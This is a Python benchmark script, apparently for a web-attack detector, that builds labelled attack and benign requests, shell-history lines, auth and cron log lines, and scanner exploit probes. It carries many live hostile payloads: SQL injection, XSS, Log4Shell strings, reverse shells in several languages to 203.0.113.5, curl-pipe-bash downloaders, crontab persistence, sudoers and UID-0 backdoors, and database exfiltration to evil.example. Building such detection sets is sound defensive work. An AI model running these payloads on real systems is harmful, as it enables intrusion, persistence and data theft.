#!/usr/bin/env python3
"""A second, smaller labelled set, written blind in session 18: attack requests
typed from how each technique works (not from the rules, not from any public
list) and benign requests of a shop, to see what the shipped rules miss on text
their author did not write them against. Usage:

    bench/eval/blind_set.py build/src/cli/shodo [--misses]

Each attack payload is sent in up to four encodings (as a browser sends it,
with + for spaces, percent-encoded twice, and as a lax server logs it raw), in
a parameter, the User-Agent or the path. Prints recall per class and every
benign request flagged; results and what was changed after the first run are
in bench/RESULTS.md ("Detection quality")."""
import collections
import json
import os
import random
import subprocess
import sys
import tempfile
import urllib.parse

P = []
def add(cls, where, *payloads):
    for p in payloads: P.append((cls, where, p))

add("sqli", "q",
 "1' AND 1=1-- -", "1' AND '1'='1", "1 AND 1=2", "x' OR 'x'='x", "admin'--", "admin' #", "' OR ''='",
 "1' ORDER BY 3-- -", "1' GROUP BY 1,2,3-- -", "-1 UNION ALL SELECT 1,2,3", "-1'/**/UNION/**/SELECT/**/user(),2-- -",
 "1' AND SLEEP(5)-- -", "1'; WAITFOR DELAY '0:0:5'--", "1' AND pg_sleep(5)--", "1 AND BENCHMARK(5000000,MD5(1))",
 "1' AND extractvalue(1,concat(0x7e,version()))-- -", "1' AND updatexml(1,concat(0x7e,(select user())),1)-- -",
 "1; DROP TABLE users--", "1'; EXEC xp_cmdshell('dir')--", "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0-- -",
 "1' AND ASCII(SUBSTRING((SELECT database()),1,1))>64-- -", "1 AND 1=CONVERT(int,@@version)",
 "1' UNION SELECT NULL,table_name FROM information_schema.tables-- -", "id=1)) OR ((1=1", "1'||(SELECT 1 FROM dual)||'",
 "1 OR 1=1 LIMIT 1", "1/*!50000UNION*/ /*!50000SELECT*/ 1,2", "1' aNd 1=1 uNiOn SeLeCt 1,2-- -", "1%27%20or%201%3D1--",
 "' or 1=1 into outfile '/var/www/x.php'-- -", "1' and load_file('/etc/passwd')-- -", "1 and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
 "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -", "1) AND 5555=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)-- x",
 "1' OR 1=1 -- ", "\" or \"1\"=\"1", "1' having 1=1--", "name=a'+and+substr(user(),1,1)='r", "1 AND 1=1 AND '%'='",
)
add("xss", "q",
 "<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</sCrIpT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
 "<svg><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=prompt(1)>", "<body onload=alert(1)>",
 "<iframe src=javascript:alert(1)>", "javascript:alert(document.domain)", "<a href=\"javascript:alert(1)\">x</a>",
 "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
 "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>", "<math><mtext><img src=x onerror=alert(1)>", "<object data=javascript:alert(1)>",
 "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
 "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">", "<svg onload=fetch('//evil.example/'+document.cookie)>",
 "\"-alert(1)-\"", "';alert(String.fromCharCode(88,83,83))//", "<style>@import'//evil.example/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">",
 "<img src=x:alert(1) onerror=eval(src)>", "<base href=//evil.example/>", "<form action=javascript:alert(1)><input type=submit>", "<isindex type=image src=1 onerror=alert(1)>",
 "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//", "<x onclick=alert(1)>click", "<img/src/onerror=alert(1)>",
)
add("traversal", "q",
 "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "....//....//etc/passwd", "..\\..\\..\\windows\\win.ini",
 "%2e%2e/%2e%2e/etc/shadow", "..%c0%af..%c0%afetc/passwd", "/etc/passwd%00.jpg", "php://filter/convert.base64-encode/resource=index.php",
 "php://input", "file:///etc/passwd", "/proc/self/environ", "../../../../proc/self/cmdline", "C:\\boot.ini", "../../WEB-INF/web.xml",
 "..%5c..%5c..%5cboot.ini", "/var/log/apache2/access.log", "....\\\\....\\\\etc\\\\passwd", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
 "expect://id", "zip://uploads/x.jpg%23shell", "phar://uploads/x.jpg/shell", "/etc/hosts", "../../../../../../../../etc/group",
 "..;/..;/etc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/.%2e/.%2e/.%2e/etc/passwd",
)
add("cmdi", "q",
 ";id", "|id", "||id", "&&id", "`id`", "$(id)", ";cat /etc/passwd", "| whoami", "; uname -a", "%0aid", "%0Acat%20/etc/passwd",
 "127.0.0.1; ls -la", "127.0.0.1 && cat /etc/passwd", "x; wget http://203.0.113.5/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
 "x;curl http://203.0.113.5/s|bash", "$(curl -s http://203.0.113.5/a|sh)", ";nc -e /bin/sh 203.0.113.5 4444", "|bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
 ";cat${IFS}/etc/passwd", "a;sleep 10", "|ping -c 10 127.0.0.1", "`sleep 5`", ";python -c 'import os;os.system(\"id\")'", "; powershell -enc SQBFAFgA",
 "& ping -n 10 127.0.0.1 &", "| net user", "; rm -rf /tmp/x", ";busybox nc 203.0.113.5 4444 -e sh",
)
add("ssti", "q",
 "{{7*7}}", "{{7*'7'}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config}}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
 "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
 "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "*{7*7}", "@(7*7)",
 "{php}echo `id`;{/php}", "${{<%[%'\"}}%\\.", "{{lipsum.__globals__['os'].popen('id').read()}}",
)
add("ssrf", "q",
 "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/",
 "http://[fd00:ec2::254]/latest/meta-data/", "http://169.254.170.2/v2/credentials", "http://100.100.100.200/latest/meta-data/", "http://0xa9fea9fe/latest/meta-data/",
 "http://2852039166/latest/meta-data/", "http://127.0.0.1:8080/admin", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats", "http://localhost:2375/containers/json",
 "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "file:///proc/self/environ",
)
add("log4shell", "ua",
 "${jndi:ldap://203.0.113.5:1389/a}", "${jndi:rmi://203.0.113.5/x}", "${jndi:dns://x.evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}",
 "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example/a}",
 "${jndi:ldaps://evil.example/a}", "${${upper:j}ndi:ldap://evil.example/a}", "${j${k8s:k5:-ND}i:ldap://evil.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
)
add("shellshock", "ua", "() { :; }; echo; /bin/bash -c 'id'", "() { :;}; /bin/cat /etc/passwd", "() { _; } >_[$($())] { echo; id; }", "() { :; }; wget http://203.0.113.5/x")
add("xxe", "q",
 "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", "<!DOCTYPE x [<!ENTITY % r SYSTEM \"http://evil.example/x.dtd\"> %r;]>",
 "<!ENTITY xxe SYSTEM \"php://filter/convert.base64-encode/resource=/etc/passwd\">", "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\">",
)
add("ognl", "q",
 "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
 "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getWriter()}", "action:${@java.lang.Runtime@getRuntime().exec('id')}",
)
add("spring4shell", "q", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", "class.module.classLoader.URLs%5B0%5D=0", "class.classLoader.resources.dirContext.docBase=/tmp")
add("rfi", "q", "http://evil.example/shell.txt?", "https://203.0.113.5/c99.txt%00", "ftp://evil.example/x.php", "http://evil.example/x.txt?cmd=id", "\\\\evil.example\\share\\x.php")
add("sensitive", "path",
 "/.env", "/.git/config", "/.git/HEAD", "/backup.sql", "/db.sql.gz", "/wp-config.php.bak", "/wp-config.php~", "/.DS_Store", "/phpinfo.php", "/server-status",
 "/.svn/entries", "/.htpasswd", "/config.php.old", "/dump.sql", "/.aws/credentials", "/.ssh/id_rsa", "/web.config.bak", "/.npmrc", "/config/database.yml", "/backup.zip",
 "/site.tar.gz", "/.idea/workspace.xml", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/env", "/actuator/heapdump", "/.bash_history", "/admin/.env.production",
 "/api/.env", "/www.zip", "/database.sql", "/.git/logs/HEAD", "/info.php", "/test.php", "/.vscode/sftp.json", "/storage/logs/laravel.log", "/_profiler/phpinfo", "/.hg/store",
 "/WEB-INF/web.xml", "/app/etc/local.xml", "/sites/default/settings.php.bak", "/config.json.bak", "/id_rsa", "/.docker/config.json", "/docker-compose.yml",
)
add("webshell", "path",
 "/uploads/shell.php", "/wp-content/uploads/2024/01/x.php?cmd=id", "/c99.php", "/r57.php", "/wso.php", "/b374k.php", "/cmd.jsp?cmd=whoami", "/shell.aspx", "/images/1.php?pass=abc&cmd=ls",
 "/alfa.php", "/up.php", "/wp-content/plugins/hello/cmd.php?c=id", "/upload/webshell.jsp", "/tmp/shell.phtml", "/images/avatar.php.jpg?cmd=id", "/cgi-bin/shell.cgi?cmd=id",
 "/files/x.php?exec=uname%20-a", "/assets/.x.php", "/indoxploit.php", "/mini.php", "/shell.php5", "/eval.php?code=phpinfo();",
)
add("scanner", "ua_only",
 "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 nuclei",
 "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
 "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x", "Acunetix-Product", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
 "Fuzz Faster U Fool v2.1.0", "feroxbuster/2.10.0", "Wfuzz/3.1.0", "WhatWeb/0.5.5", "Arachni/v1.5.1", "w3af.org", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; OpenVAS)",
 "Nessus SOAP", "ZmEu", "Morfeus Fucking Scanner", "Hydra", "commix/v3.8", "XSStrike", "dirb", "Jorgee", "Netsparker", "Mozilla/5.0 (compatible; Qualys)", "BackDoorBot/1.0",
)
add("xmlrpc", "post", "/xmlrpc.php", "/wordpress/xmlrpc.php", "/blog/xmlrpc.php")

B = [
 "/search?q=o'reilly+books", "/search?q=select+comfort+mattress", "/search?q=union+station+map", "/search?q=script+writing+course", "/search?q=%E6%9D%B1%E4%BA%AC+%E3%83%90%E3%83%83%E3%82%B0",
 "/search?q=rock+%26%26+roll", "/search?q=cats+%7C+dogs", "/search?q=%24(document).ready", "/search?q=1%3D1+puzzle", "/search?q=drop+shipping", "/search?q=table+lamp+delete",
 "/search?q=alert+bracelet", "/search?q=onload+speed", "/search?q=%3Cb%3Ebold%3C%2Fb%3E", "/search?q=C%3A%5CProgram+Files", "/search?q=..%2F..%2F", "/search?q=etc",
 "/search?q=%7B%7Bname%7D%7D+template", "/search?q=sleep+mask", "/search?q=benchmark+results", "/search?q=waitfor", "/search?q=passwd+reset", "/search?q=cmd+key",
 "/oauth/callback?code=4%2F0AX4XfWh&state=abc&redirect_uri=https%3A%2F%2Fshop.example.jp%2Faccount", "/img/resize?url=https%3A%2F%2Fcdn.example.jp%2Fa.jpg&w=300",
 "/api/v1/products/12345/reviews?page=2&sort=-date", "/graphql?query=%7Bproduct(id%3A12)%7Bname%20price%7D%7D", "/track?utm_source=google&utm_medium=cpc&gclid=Cj0KCQiA&fbclid=IwAR2x",
 "/.well-known/assetlinks.json", "/.well-known/openid-configuration", "/.well-known/change-password", "/.well-known/security.txt", "/robots.txt", "/sitemap.xml", "/favicon.ico",
 "/blog/logs-and-lumber", "/logs", "/products/log-cabin.html", "/assets/logo.svg", "/catalog/changelog", "/docs/error-codes", "/help/debug-your-order",
 "/download?file=manual_v2.pdf", "/download?file=terms-2024.pdf", "/page.php?id=42&lang=ja", "/index.php?route=product/category&path=20_27", "/cart?add=123&qty=2",
 "/login?next=%2Faccount%2Forders", "/account/orders/98765", "/checkout/step2?coupon=SPRING24", "/news/2024/02/29/leap-day-sale", "/wp-content/uploads/2024/02/banner-1200x600.jpg",
 "/wp-json/wp/v2/posts?per_page=10", "/feed/?paged=2", "/contact?msg=Hello%2C+I%27d+like+to+return+item+%2312", "/search?q=%22quoted+phrase%22", "/search?q=50%25+off",
 "/search?q=tom%27s+%26+jerry%27s", "/api/search?filter=%7B%22price%22%3A%7B%22lt%22%3A100%7D%7D", "/static/js/app.3f9a1c.js", "/static/css/main.css?v=1.2.3",
 "/en/products/usb-c-cable-2m", "/ja/products/%E3%82%B1%E3%83%BC%E3%83%96%E3%83%AB", "/compare?ids=1,2,3", "/share?url=https%3A%2F%2Fshop.example.jp%2Fp%2F1&title=Nice",
 "/unsubscribe?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc", "/reset?token=9f8e7d6c5b4a", "/search?q=%E3%82%BB%E3%83%AC%E3%82%AF%E3%83%88", "/search?q=java+script+book",
 "/search?q=iframe+stand", "/search?q=svg+icons", "/search?q=windows+ini+file+editor", "/search?q=etc%2Fpasswd+meaning", "/search?q=how+to+use+%24%28id%29",
 "/help?topic=backup&path=%2Faccount%2Fsettings", "/api/files?name=report.final.v2.xlsx", "/search?q=%E2%80%9Csmart+quotes%E2%80%9D", "/search?q=a%27b%27c",
 "/p/123?ref=email&campaign=winter_sale_2024&utm_content=hero_banner_variant_b_with_long_name", "/search?q=%5Cn+newline", "/search?q=100%25+cotton",
]

# Shell history (a .bash_history): what an intruder types, and an administrator's day.
SHELL_ATTACKS = [
    'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
    'nc -e /bin/sh 203.0.113.5 4444',
    'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f',
    'python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\'',
    'perl -e \'use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\'',
    'php -r \'$sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    'socat tcp-connect:203.0.113.5:4444 exec:/bin/sh,pty,stderr,setsid',
    'curl http://203.0.113.5/x.sh | bash',
    'wget -qO- http://203.0.113.5/x | sh',
    'wget http://203.0.113.5/xmrig -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x',
    'curl -fsSL http://evil.example/i.sh | sudo bash',
    'echo "YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNS80NDQ0IDA+JjE=" | base64 -d | bash',
    'unset HISTFILE',
    'export HISTFILESIZE=0',
    'history -c',
    'useradd -m -o -u 0 sysadm',
    "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC attacker@kali' >> /root/.ssh/authorized_keys",
    '(crontab -l; echo "*/5 * * * * curl -s http://evil.example/x.sh | sh") | crontab -',
    'iptables -F',
    'ruby -rsocket -e\'f=TCPSocket.open("203.0.113.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.5:4444 > /tmp/s; rm /tmp/s',
    'tar czf /tmp/db.tgz /var/lib/mysql; curl -F f=@/tmp/db.tgz http://evil.example/up',
    'mysqldump -u root -pS3cret shop > /dev/shm/shop.sql',
    'scp /dev/shm/shop.sql attacker@203.0.113.5:/loot/',
    'chmod 4755 /tmp/.bash',
    "echo 'www-data ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    'curl -s http://203.0.113.5:8000/linpeas.sh | sh',
    './xmrig -o pool.minexmr.com:4444 -u 44abc',
    'nohup ./kdevtmpfsi > /dev/null 2>&1 &',
]
SHELL_BENIGN = [
    'ls -la',
    'cd /var/www/html',
    'vim index.php',
    'git pull origin main',
    'sudo systemctl restart nginx',
    'tail -f /var/log/nginx/access.log',
    'curl -I https://shop.example.jp',
    'wget https://wordpress.org/latest.tar.gz',
    'tar xzf latest.tar.gz',
    'mysqldump -u backup -p shop > /backup/shop-2024-02-29.sql',
    'composer install --no-dev',
    'crontab -e',
    'ssh deploy@web2',
    'docker compose up -d',
    'apt update && apt upgrade -y',
    'nc -zv db.internal 3306',
    'base64 notes.txt > notes.b64',
    'python3 manage.py migrate',
]

# auth.log and cron's syslog lines: (line, whether a responder must be shown it; None
# for each failed login, which a brute-force finding cites as a group).
# Lines that only repeat another (su's session line) or that admins do every day
# (visudo, groupadd, a deploy user's sudo) are not.
AUTH_LINES = [
    ('Feb 29 15:00:07 web1 sshd[1000]: Failed password for root from 203.0.113.50 port 40000 ssh2', None),
    ('Feb 29 15:00:14 web1 sshd[1001]: Failed password for root from 203.0.113.50 port 40001 ssh2', None),
    ('Feb 29 15:00:21 web1 sshd[1002]: Failed password for root from 203.0.113.50 port 40002 ssh2', None),
    ('Feb 29 15:00:28 web1 sshd[1003]: Failed password for root from 203.0.113.50 port 40003 ssh2', None),
    ('Feb 29 15:00:35 web1 sshd[1004]: Failed password for root from 203.0.113.50 port 40004 ssh2', None),
    ('Feb 29 15:00:42 web1 sshd[1005]: Failed password for root from 203.0.113.50 port 40005 ssh2', None),
    ('Feb 29 15:00:49 web1 sshd[1006]: Failed password for root from 203.0.113.50 port 40006 ssh2', None),
    ('Feb 29 15:00:56 web1 sshd[1007]: Failed password for root from 203.0.113.50 port 40007 ssh2', None),
    ('Feb 29 15:01:03 web1 sshd[1008]: Failed password for root from 203.0.113.50 port 40008 ssh2', None),
    ('Feb 29 15:01:10 web1 sshd[1009]: Failed password for root from 203.0.113.50 port 40009 ssh2', None),
    ('Feb 29 15:01:17 web1 sshd[1010]: Failed password for root from 203.0.113.50 port 40010 ssh2', None),
    ('Feb 29 15:01:24 web1 sshd[1011]: Failed password for root from 203.0.113.50 port 40011 ssh2', None),
    ('Feb 29 15:01:31 web1 sshd[1012]: Failed password for root from 203.0.113.50 port 40012 ssh2', None),
    ('Feb 29 15:01:38 web1 sshd[1013]: Failed password for root from 203.0.113.50 port 40013 ssh2', None),
    ('Feb 29 15:01:45 web1 sshd[1014]: Failed password for root from 203.0.113.50 port 40014 ssh2', None),
    ('Feb 29 15:01:52 web1 sshd[1015]: Failed password for root from 203.0.113.50 port 40015 ssh2', None),
    ('Feb 29 15:01:59 web1 sshd[1016]: Failed password for root from 203.0.113.50 port 40016 ssh2', None),
    ('Feb 29 15:02:06 web1 sshd[1017]: Failed password for root from 203.0.113.50 port 40017 ssh2', None),
    ('Feb 29 15:02:13 web1 sshd[1018]: Failed password for root from 203.0.113.50 port 40018 ssh2', None),
    ('Feb 29 15:02:20 web1 sshd[1019]: Failed password for root from 203.0.113.50 port 40019 ssh2', None),
    ('Feb 29 15:02:27 web1 sshd[1020]: Failed password for root from 203.0.113.50 port 40020 ssh2', None),
    ('Feb 29 15:02:34 web1 sshd[1021]: Failed password for root from 203.0.113.50 port 40021 ssh2', None),
    ('Feb 29 15:02:41 web1 sshd[1022]: Failed password for root from 203.0.113.50 port 40022 ssh2', None),
    ('Feb 29 15:02:48 web1 sshd[1023]: Failed password for root from 203.0.113.50 port 40023 ssh2', None),
    ('Feb 29 15:02:55 web1 sshd[1024]: Failed password for root from 203.0.113.50 port 40024 ssh2', None),
    ('Feb 29 15:03:02 web1 sshd[1100]: Failed password for invalid user admin0 from 203.0.113.51 port 41000 ssh2', None),
    ('Feb 29 15:03:09 web1 sshd[1100]: Invalid user test0 from 203.0.113.51 port 41000', None),
    ('Feb 29 15:03:16 web1 sshd[1101]: Failed password for invalid user admin1 from 203.0.113.51 port 41001 ssh2', None),
    ('Feb 29 15:03:23 web1 sshd[1101]: Invalid user test1 from 203.0.113.51 port 41001', None),
    ('Feb 29 15:03:30 web1 sshd[1102]: Failed password for invalid user admin2 from 203.0.113.51 port 41002 ssh2', None),
    ('Feb 29 15:03:37 web1 sshd[1102]: Invalid user test2 from 203.0.113.51 port 41002', None),
    ('Feb 29 15:03:44 web1 sshd[1103]: Failed password for invalid user admin3 from 203.0.113.51 port 41003 ssh2', None),
    ('Feb 29 15:03:51 web1 sshd[1103]: Invalid user test3 from 203.0.113.51 port 41003', None),
    ('Feb 29 15:03:58 web1 sshd[1104]: Failed password for invalid user admin4 from 203.0.113.51 port 41004 ssh2', None),
    ('Feb 29 15:04:05 web1 sshd[1104]: Invalid user test4 from 203.0.113.51 port 41004', None),
    ('Feb 29 15:04:12 web1 sshd[1105]: Failed password for invalid user admin5 from 203.0.113.51 port 41005 ssh2', None),
    ('Feb 29 15:04:19 web1 sshd[1105]: Invalid user test5 from 203.0.113.51 port 41005', None),
    ('Feb 29 15:04:26 web1 sshd[1106]: Failed password for invalid user admin6 from 203.0.113.51 port 41006 ssh2', None),
    ('Feb 29 15:04:33 web1 sshd[1106]: Invalid user test6 from 203.0.113.51 port 41006', None),
    ('Feb 29 15:04:40 web1 sshd[1107]: Failed password for invalid user admin7 from 203.0.113.51 port 41007 ssh2', None),
    ('Feb 29 15:04:47 web1 sshd[1107]: Invalid user test7 from 203.0.113.51 port 41007', None),
    ('Feb 29 15:04:54 web1 sshd[1200]: Accepted password for root from 203.0.113.50 port 40100 ssh2', True),
    ('Feb 29 15:05:01 web1 sshd[1201]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)', False),
    ('Feb 29 15:05:08 web1 useradd[1300]: new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0', True),
    ('Feb 29 15:05:15 web1 useradd[1301]: new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, from=/dev/pts/0', True),
    ("Feb 29 15:05:22 web1 usermod[1302]: add 'backup2' to group 'sudo'", True),
    ("Feb 29 15:05:29 web1 usermod[1303]: add 'backup2' to shadow group 'sudo'", False),
    ('Feb 29 15:05:36 web1 passwd[1304]: pam_unix(passwd:chauthtok): password changed for root', True),
    ('Feb 29 15:05:43 web1 groupadd[1305]: group added to /etc/group: name=wheel2, GID=1003', False),
    ("Feb 29 15:05:50 web1 userdel[1306]: delete user 'alice'", False),
    ('Feb 29 15:05:57 web1 sudo:  www-data : TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/bin/bash -c id', True),
    ('Feb 29 15:06:04 web1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx', False),
    ('Feb 29 15:06:11 web1 sudo:  backup2 : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/tee -a /etc/sudoers', True),
    ('Feb 29 15:06:18 web1 sudo:  backup2 : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/sbin/visudo', False),
    ('Feb 29 15:06:25 web1 sudo: www-data : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh', True),
    ('Feb 29 15:06:32 web1 sudo:   alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/su', True),
    ('Feb 29 15:06:39 web1 su[1400]: (to root) www-data on pts/2', True),
    ('Feb 29 15:06:46 web1 su[1401]: pam_unix(su:session): session opened for user root(uid=0) by www-data(uid=33)', False),
    ('Feb 29 15:06:53 web1 sshd[1500]: Accepted publickey for deploy from 198.51.100.20 port 50000 ssh2: RSA SHA256:abc', False),
    ('Feb 29 15:07:00 web1 CRON[1600]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)', False),
]
CRON_LINES = [
    ('Feb 29 16:01:00 web1 CRON[2000]: (root) CMD (curl -fsSL http://203.0.113.5/x.sh | sh)', True),
    ('Feb 29 16:02:00 web1 CRON[2001]: (www-data) CMD (/tmp/.x/kdevtmpfsi >/dev/null 2>&1)', True),
    ('Feb 29 16:03:00 web1 CRON[2002]: (www-data) CMD (wget -q -O - http://evil.example/m | bash)', True),
    ('Feb 29 16:04:00 web1 CRON[2003]: (root) CMD (bash -i >& /dev/tcp/203.0.113.5/443 0>&1)', True),
    ('Feb 29 16:05:00 web1 crontab[2004]: (www-data) REPLACE (www-data)', True),
    ('Feb 29 16:06:00 web1 crontab[2005]: (root) BEGIN EDIT (root)', False),
    ('Feb 29 16:07:00 web1 CRON[2006]: (root) CMD (echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh)', True),
    ('Feb 29 16:08:00 web1 CRON[2100]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)', False),
    ('Feb 29 16:09:00 web1 CRON[2101]: (root) CMD (test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily ))', False),
    ('Feb 29 16:10:00 web1 CRON[2102]: (www-data) CMD (php /var/www/html/artisan schedule:run >> /dev/null 2>&1)', False),
    ('Feb 29 16:11:00 web1 CRON[2103]: (root) CMD (/usr/bin/certbot renew --quiet)', False),
]

# Requests internet scanners send for products and devices (exploit and console probes).
EXPLOIT_PROBES = [
    '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
    '/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd',
    '/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
    '/boaform/admin/formLogin?username=admin&psd=admin',
    '/GponForm/diag_Form?images/',
    '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws',
    '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1',
    '/HNAP1/',
    '/?XDEBUG_SESSION_START=phpstorm',
    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP',
    '/solr/admin/info/system?wt=json',
    '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
    '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)',
    '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
    '/actuator/gateway/routes',
    '/_ignition/execute-solution',
    '/console/login/LoginForm.jsp',
    '/manager/html',
    '/jmx-console/',
    '/invoker/JMXInvokerServlet',
    '/mgmt/tm/util/bash',
    '/cgi-bin/authLogin.cgi',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/owa/auth/x.js',
    '/autodiscover/autodiscover.json?@zdi/Powershell',
    '/api/v1/totp/user-backup-code/../../license/keys-status/%3bid',
    '/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/',
    '/webtools/control/main?USERNAME=&PASSWORD=&requirePasswordChange=Y',
    '/cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;id;%22',
    '/ws/v1/cluster/apps/new-application',
    '/containers/json',
    '/v1.24/containers/json',
    '/api/jsonws/invoke',
    '/struts2-showcase/index.action',
    '/hudson/script',
    '/script',
    '/jenkins/script',
    '/.env',
    '/admin/config.php',
    '/phpmyadmin/index.php',
    '/pma/',
    '/wls-wsat/CoordinatorPortType',
    '/_async/AsyncResponseService',
    '/uddiexplorer/SearchPublicRegistries.jsp',
    '/cgi-bin/test-cgi',
    '/cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E+%2D%64+%61%75%74%6F%5F%70%72%65%70%65%6E%64%5F%66%69%6C%65%3D%70%68%70%3A%2F%2F%69%6E%70%75%74',
    '/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input',
